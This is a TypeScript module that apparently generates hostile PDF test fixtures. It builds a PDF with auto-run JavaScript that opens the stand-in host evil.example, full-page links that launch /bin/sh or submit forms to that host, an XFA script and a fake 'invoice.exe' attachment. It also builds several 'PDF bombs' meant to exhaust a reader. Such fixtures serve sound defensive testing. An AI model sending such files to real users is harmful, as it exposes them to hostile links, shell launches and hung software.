import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** A PDF that wants to run, to lead away and to open something, on opening it and wherever it is clicked. */
export async function armedPdf(words: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText(words, { x: 60, y: 700, size: 24, font: await pdf.embedFont(StandardFonts.Helvetica) });
  const { context, catalog } = pdf;
  const script = (text: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(text) });
  const away = 'https://evil.example/';
  const link = (action: ReturnType<typeof script>) =>
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 595, 842],
        Border: [0, 0, 0],
        A: action,
      }),
    );
  catalog.set(PDFName.of('OpenAction'), script(`app.alert('ran'); app.launchURL('${away}open', true);`));
  const onEvents = context.obj({ WC: script(`app.launchURL('${away}close')`) });
  catalog.set(PDFName.of('AA'), onEvents);
  page.node.set(PDFName.of('AA'), context.obj({ O: script(`app.launchURL('${away}page')`) }));
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(context.obj({ S: 'URI', URI: PDFString.of(`${away}uri`) })),
      link(context.obj({ S: 'Launch', F: PDFString.of('/bin/sh'), NewWindow: true })),
      link(context.obj({ S: 'GoToR', F: PDFString.of(`${away}other.pdf`) })),
      link(context.obj({ S: 'SubmitForm', F: PDFString.of(`${away}form`) })),
    ]),
  );
  const xfa =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>';
  catalog.set(
    PDFName.of('AcroForm'),
    context.obj({ Fields: [], XFA: context.register(context.stream(xfa)) }),
  );
  await pdf.attach(new TextEncoder().encode('MZ'), 'invoice.exe', { mimeType: 'application/octet-stream' });
  return pdf.save({ useObjectStreams: false });
}

/** PDFs that cost whoever reads them far more than they are. */
export const pdfBombs: readonly (readonly [name: string, bytes: () => Uint8Array])[] = [
  ['a huge image', () => hugeImage()],
  ['a million pages', () => written(1_000_000, '')],
  ['a chain of tables without end', () => written(1, 'endless')],
  ['pages within pages within themselves', () => written(3, 'loop')],
];

function hugeImage(): Uint8Array {
  const side = 20_000;
  const packed = deflateSync(Buffer.alloc((side * side) / 8));
  const image = `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode /Length ${packed.length} >>`;
  const draw = 'q 595 0 0 842 0 0 cm /I Do Q';
  return assembledPdf([
    ['<< /Type /Catalog /Pages 2 0 R >>'],
    ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /I 5 0 R >> >> /Contents 4 0 R >>',
    ],
    [`<< /Length ${draw.length} >>`, Buffer.from(draw)],
    [image, packed],
  ]);
}

function written(count: number, how: '' | 'endless' | 'loop'): Uint8Array {
  const kids = how === 'loop' ? '[2 0 R 2 0 R 3 0 R]' : '[3 0 R]';
  return assembledPdf(
    [
      ['<< /Type /Catalog /Pages 2 0 R >>'],
      [`<< /Type /Pages /Kids ${kids} /Count ${count} >>`],
      ['<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'],
    ],
    '',
    how === 'endless',
  );
}

/** The objects in turn with their table; `isEndless`: the table names itself as the one before it; `more` stands in the trailer. */
export function assembledPdf(
  objects: readonly (readonly [head: string, stream?: Uint8Array])[],
  more = '',
  isEndless = false,
): Uint8Array {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  const length = () => parts.reduce((total, part) => total + part.length, 0);
  for (const [index, [head, stream]] of objects.entries()) {
    offsets.push(length());
    parts.push(Buffer.from(`${index + 1} 0 obj\n${head}\n`));
    if (stream) parts.push(Buffer.from('stream\n'), Buffer.from(stream), Buffer.from('\nendstream\n'));
    parts.push(Buffer.from('endobj\n'));
  }
  const table = length();
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const before = isEndless ? ` /Prev ${table}` : '';
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${before} ${more} >>\nstartxref\n${table}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}
